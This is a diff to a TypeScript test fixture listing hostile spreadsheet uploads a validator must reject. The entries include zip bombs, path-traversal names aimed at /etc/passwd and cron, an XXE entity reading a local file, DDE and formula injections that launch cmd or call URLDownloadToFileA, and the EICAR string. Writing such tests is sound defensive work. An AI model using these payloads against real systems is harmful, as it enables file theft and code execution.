@@ -1,68 +1,93 @@
 import { deflateRawSync } from 'node:zlib'
-import { packed, partsOf, sheetXml } from './made.ts'
-import { changed, formula, good, link, raw, SHEET_A1, size, withParts } from './spoil.ts'
+import { packWorkbook, workbookPartsOf, sheetXml } from './made.ts'
+import {
+  workbookWithReplacedText,
+  workbookWithFormula,
+  createValidWorkbookParts,
+  externalLinkParts,
+  workbookWithChangedFiles,
+  BASELINE_SHEET_PART,
+  workbookWithSize,
+  workbookWithParts,
+} from './spoil.ts'
 
-/** A kind of workbook that is refused: what it is, how it is made, and what is said of it. */
-export type Hostile = [what: string, content: () => Buffer, why: RegExp]
+/** A kind of workbook that is refused: a description, its content, and the expected reason. */
+export type HostileWorkbook = [what: string, content: () => Buffer, why: RegExp]
 
 const MACRO = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'
 const MANY = 100_001
 const zeros = Buffer.alloc(12 * 1024 * 1024)
 
-/** Files that are hostile whatever their sheets say. */
-export const HOSTILE_FILES: Hostile[] = [
-  // The file is another one than it says.
+/** Files that are hostile whatever their sheets contain. */
+export const HOSTILE_FILES: HostileWorkbook[] = [
+  // The file is not what its name says.
   ['nothing', () => Buffer.alloc(0), /empty/],
   ['an old .xls, renamed', () => Buffer.from('d0cf11e0a1b11ae1'.padEnd(1024, '0'), 'hex'), /\.xls\)/],
   [
     'one locked with a password',
     () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('EncryptedPackage', 'utf16le')]),
-    /locked with a password/,
+    /has a password/,
   ],
-  ['a binary .xlsb, renamed', () => packed({ ...good(), 'xl/workbook.bin': 'x' }), /\.xlsb/],
-  ['a page, renamed', () => Buffer.from('<html><table><tr><td>4.1'), /not of an accepted type/],
-  ['a list in CSV, renamed', () => Buffer.from('a,b\n1,2\n'), /not of an accepted type/],
+  [
+    'a binary .xlsb, renamed',
+    () => packWorkbook({ ...createValidWorkbookParts(), 'xl/workbook.bin': 'x' }),
+    /\.xlsb/,
+  ],
+  ['a page, renamed', () => Buffer.from('<html><table><tr><td>4.1'), /type of file is not accepted/],
+  ['a list in CSV, renamed', () => Buffer.from('a,b\n1,2\n'), /type of file is not accepted/],
   [
     'a document of Word, renamed',
     () =>
-      packed({
+      packWorkbook({
         '[Content_Types].xml':
           '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
         'word/document.xml': '<w/>',
       }),
-    /not of an accepted type/,
+    /type of file is not accepted/,
   ],
   [
     'a template, renamed',
-    () => changed('[Content_Types].xml', 'sheet.main', 'template.main'),
-    /not of an accepted type/,
+    () => workbookWithReplacedText('[Content_Types].xml', 'sheet.main', 'template.main'),
+    /type of file is not accepted/,
   ],
-  ['one that says nowhere what it is', () => raw(files => files.shift()), /not of an accepted type/],
   [
-    'one that says it is a picture',
+    'one that does not declare its type',
+    () => workbookWithChangedFiles(files => files.shift()),
+    /type of file is not accepted/,
+  ],
+  [
+    'one that declares itself a picture',
     () =>
-      changed(
+      workbookWithReplacedText(
         '[Content_Types].xml',
         'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
         'image/png',
       ),
-    /not of an accepted type/,
+    /type of file is not accepted/,
   ],
   [
     'a workbook that is a PDF too',
-    () => Buffer.concat([Buffer.from('%PDF-1.7\n'), packed(good())]),
-    /not of an accepted type/,
+    () => Buffer.concat([Buffer.from('%PDF-1.7\n'), packWorkbook(createValidWorkbookParts())]),
+    /type of file is not accepted/,
   ],
-  // The archive is broken or harms whoever unpacks it.
-  ['half of one', () => packed(good()).subarray(0, 900), /broken|accepted type/],
-  ['one without its directory', () => packed(good()).subarray(0, -40), /broken/],
-  ['one with something after it', () => Buffer.concat([packed(good()), Buffer.from('<script>')]), /broken/],
-  ['a wrong checksum', () => raw(files => Object.assign(files.at(5)!, { crc: 7 })), /checksums are wrong/],
-  ['a bomb', () => withParts({ 'xl/media/image1.png': zeros }), /suspiciously tight/],
+  // The archive is broken or harmful to unpack.
+  ['half of one', () => packWorkbook(createValidWorkbookParts()).subarray(0, 900), /broken|not accepted/],
+  ['one without its directory', () => packWorkbook(createValidWorkbookParts()).subarray(0, -40), /broken/],
+  [
+    'one with something after it',
+    () => Buffer.concat([packWorkbook(createValidWorkbookParts()), Buffer.from('<script>')]),
+    /broken/,
+  ],
+  [
+    'a wrong checksum',
+    () => workbookWithChangedFiles(files => Object.assign(files.at(5)!, { crc: 7 })),
+    /checksums are wrong/,
+  ],
+  ['a bomb', () => workbookWithParts({ 'xl/media/image1.png': zeros }), /suspiciously tight/],
   [
     'a bomb that lies about its size',
     () =>
-      raw(files =>
+      workbookWithChangedFiles(files =>
         files.push(
           Object.assign(
             { name: 'xl/media/a.png', content: '', isDeflated: true },
@@ -74,88 +99,112 @@ export const HOSTILE_FILES: Hostile[] = [
   ],
   [
     'a sheet larger than any',
-    () => raw(files => Object.assign(files.at(5)!, { claims: 150 * 1024 * 1024 })),
+    () => workbookWithChangedFiles(files => Object.assign(files.at(5)!, { claims: 150 * 1024 * 1024 })),
     /tight|broken/,
   ],
-  ['an archive in it', () => withParts({ 'xl/media/image1.png': packed({ a: 'b' }) }), /another archive/],
-  ['an archive by its name in it', () => withParts({ 'xl/embeddings/plans.zip': 'x' }), /another archive/],
-  ['a workbook in it', () => withParts({ 'xl/embeddings/Sheet1.xlsx': packed(good()) }), /another archive/],
+  [
+    'an archive in it',
+    () => workbookWithParts({ 'xl/media/image1.png': packWorkbook({ a: 'b' }) }),
+    /another archive/,
+  ],
+  [
+    'a file in it with the name of an archive',
+    () => workbookWithParts({ 'xl/embeddings/plans.zip': 'x' }),
+    /another archive/,
+  ],
+  [
+    'a workbook in it',
+    () => workbookWithParts({ 'xl/embeddings/Sheet1.xlsx': packWorkbook(createValidWorkbookParts()) }),
+    /another archive/,
+  ],
   [
     'a gzip in it',
     () =>
-      withParts({
+      workbookWithParts({
         'xl/media/image1.png': Buffer.concat([Buffer.from([0x1f, 0x8b, 8]), deflateRawSync('x')]),
       }),
     /another archive/,
   ],
-  ['a program in it', () => withParts({ 'xl/embeddings/setup.exe': 'x' }), /a program/],
+  ['a program in it', () => workbookWithParts({ 'xl/embeddings/setup.exe': 'x' }), /a program/],
   [
     'a program in disguise in it',
-    () => withParts({ 'xl/embeddings/oleObject1.bin': Buffer.from([0x4d, 0x5a, 0x90, 0, 3]) }),
+    () => workbookWithParts({ 'xl/embeddings/oleObject1.bin': Buffer.from([0x4d, 0x5a, 0x90, 0, 3]) }),
     /a program/,
   ],
-  ['a path that climbs out', () => withParts({ '../../etc/cron.d/evil': 'x' }), /outside itself/],
-  ['a path from the root', () => withParts({ '/etc/passwd': 'x' }), /outside itself/],
-  ['a path for Windows', () => withParts({ 'xl\\evil': 'x' }), /outside itself/],
+  ['a path that leaves its folder', () => workbookWithParts({ '../../etc/cron.d/evil': 'x' }), /outside it/],
+  ['a path from the root', () => workbookWithParts({ '/etc/passwd': 'x' }), /outside it/],
+  ['a path for Windows', () => workbookWithParts({ 'xl\\evil': 'x' }), /outside it/],
   [
     'a link in the archive',
     () =>
-      raw(files =>
+      workbookWithChangedFiles(files =>
         files.push(
           Object.assign({ name: 'xl/a', content: '/etc/passwd', isDeflated: false }, { isLink: true }),
         ),
       ),
     /links/,
   ],
-  ['a locked part', () => raw(files => Object.assign(files.at(5)!, { isLocked: true })), /password/],
+  [
+    'a locked part',
+    () => workbookWithChangedFiles(files => Object.assign(files.at(5)!, { isLocked: true })),
+    /password/,
+  ],
   [
     'too many parts',
-    () => withParts(Object.fromEntries(Array.from({ length: 1001 }, (_, at) => [`xl/media/${at}`, '']))),
+    () =>
+      workbookWithParts(Object.fromEntries(Array.from({ length: 1001 }, (_, at) => [`xl/media/${at}`, '']))),
     /more than 1000/,
   ],
   [
-    'a part twice',
-    () => raw(files => files.push({ name: SHEET_A1, content: '<worksheet/>', isDeflated: true })),
+    'a repeated part',
+    () =>
+      workbookWithChangedFiles(files =>
+        files.push({ name: BASELINE_SHEET_PART, content: '<worksheet/>', isDeflated: true }),
+      ),
     /same name/,
   ],
   [
     'a known virus',
-    () => withParts({ 'xl/media/a.png': 'X5O!P%EICAR-STANDARD-ANTIVIRUS-TEST-FILE!' }),
+    () => workbookWithParts({ 'xl/media/a.png': 'X5O!P%EICAR-STANDARD-ANTIVIRUS-TEST-FILE!' }),
     /virus/,
   ],
-  // Its XML.
+  // Invalid XML.
   [
-    'entities that grow',
+    'expanding entities',
     () =>
-      withParts({
-        [SHEET_A1]: '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><worksheet>&b;</worksheet>',
+      workbookWithParts({
+        [BASELINE_SHEET_PART]:
+          '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><worksheet>&b;</worksheet>',
       }),
     /outside it/,
   ],
   [
     'an entity from a file',
-    () => withParts({ 'xl/styles.xml': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' }),
+    () =>
+      workbookWithParts({
+        'xl/styles.xml': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
+      }),
     /outside it/,
   ],
   [
     'a sheet in UTF-16',
-    () => withParts({ [SHEET_A1]: Buffer.from('\uFEFF<worksheet/>', 'utf16le') }),
+    () => workbookWithParts({ [BASELINE_SHEET_PART]: Buffer.from('\uFEFF<worksheet/>', 'utf16le') }),
     /UTF-8/,
   ],
   [
     'texts by the hundred thousand',
     () =>
-      withParts({
+      workbookWithParts({
         'xl/sharedStrings.xml': `<sst>${Array.from({ length: MANY }, (_, at) => `<si><t>${at * 7919}</t></si>`).join('')}</sst>`,
       }),
     /more than 100,000 texts/,
   ],
-  ['a text that is not there', () => size('<c r="H11" t="s"><v>99</v></c>'), /not there/],
-  // What leads elsewhere, or starts something.
+  ['a text that is not there', () => workbookWithSize('<c r="H11" t="s"><v>99</v></c>'), /that is missing/],
+  // External links, and content that starts something.
   [
     'a link that calls a program (DDE)',
     () =>
-      withParts({
+      workbookWithParts({
         'xl/externalLinks/externalLink1.xml':
           '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
       }),
@@ -164,36 +213,48 @@ export const HOSTILE_FILES: Hostile[] = [
   [
     'a link that calls a program (OLE)',
     () =>
-      withParts({
+      workbookWithParts({
         'xl/externalLinks/externalLink1.xml': '<externalLink><oleLink progId="Package"/></externalLink>',
       }),
     /OLE/,
   ],
-  ['a link to a page', () => withParts(link('https://example.org/a.xlsx')), /on the network/],
-  ['a link to a share', () => withParts(link('smb://example.org/a')), /on the network/],
-  ['a formula that starts a program', () => formula('cmd|&apos;/c calc&apos;!A1'), /calls another program/],
+  [
+    'a link to a page',
+    () => workbookWithParts(externalLinkParts('https://example.org/a.xlsx')),
+    /on the network/,
+  ],
+  ['a link to a share', () => workbookWithParts(externalLinkParts('smb://example.org/a')), /on the network/],
+  [
+    'a formula that starts a program',
+    () => workbookWithFormula('cmd|&apos;/c calc&apos;!A1'),
+    /calls another program/,
+  ],
   [
     'a formula that fetches a page',
-    () => formula('WEBSERVICE("http://example.org/"&amp;A1)'),
+    () => workbookWithFormula('WEBSERVICE("http://example.org/"&amp;A1)'),
     /calls another program/,
   ],
   [
     'a formula that calls a library',
-    () => formula('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)'),
+    () => workbookWithFormula('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)'),
     /calls another program/,
   ],
-  ['a formula that asks a server', () => formula('RTD("x.y",,"z")'), /calls another program/],
-  ['macros of Excel 4.0', () => withParts({ 'xl/macrosheets/sheet1.xml': '<x/>' }), /Excel 4\.0 macros/],
-  ['a dialog', () => withParts({ 'xl/dialogsheets/sheet1.xml': '<x/>' }), /dialog/],
-  ['ActiveX', () => withParts({ 'xl/activeX/activeX1.bin': 'x' }), /ActiveX/],
-  ['a connection', () => withParts({ 'xl/connections.xml': '<connections/>' }), /fetches data/],
-  ['a query', () => withParts({ 'xl/queryTables/queryTable1.xml': '<x/>' }), /fetches data/],
-  ['menus of its own', () => withParts({ 'customUI/customUI.xml': '<x/>' }), /menus/],
+  ['a formula that asks a server', () => workbookWithFormula('RTD("x.y",,"z")'), /calls another program/],
+  [
+    'macros of Excel 4.0',
+    () => workbookWithParts({ 'xl/macrosheets/sheet1.xml': '<x/>' }),
+    /Excel 4\.0 macros/,
+  ],
+  ['a dialog', () => workbookWithParts({ 'xl/dialogsheets/sheet1.xml': '<x/>' }), /dialog/],
+  ['ActiveX', () => workbookWithParts({ 'xl/activeX/activeX1.bin': 'x' }), /ActiveX/],
+  ['a connection', () => workbookWithParts({ 'xl/connections.xml': '<connections/>' }), /fetches data/],
+  ['a query', () => workbookWithParts({ 'xl/queryTables/queryTable1.xml': '<x/>' }), /fetches data/],
+  ['menus of its own', () => workbookWithParts({ 'customUI/customUI.xml': '<x/>' }), /menus/],
   [
     'only macros, and no metric',
     () =>
-      packed({
-        ...partsOf({ Sheet1: sheetXml({ A1: 1 }) }),
+      packWorkbook({
+        ...workbookPartsOf({ Sheet1: sheetXml({ A1: 1 }) }),
         '[Content_Types].xml': `<Types><Override ContentType="${MACRO}"/></Types>`,
         'xl/vbaProject.bin': 'x',
       }),
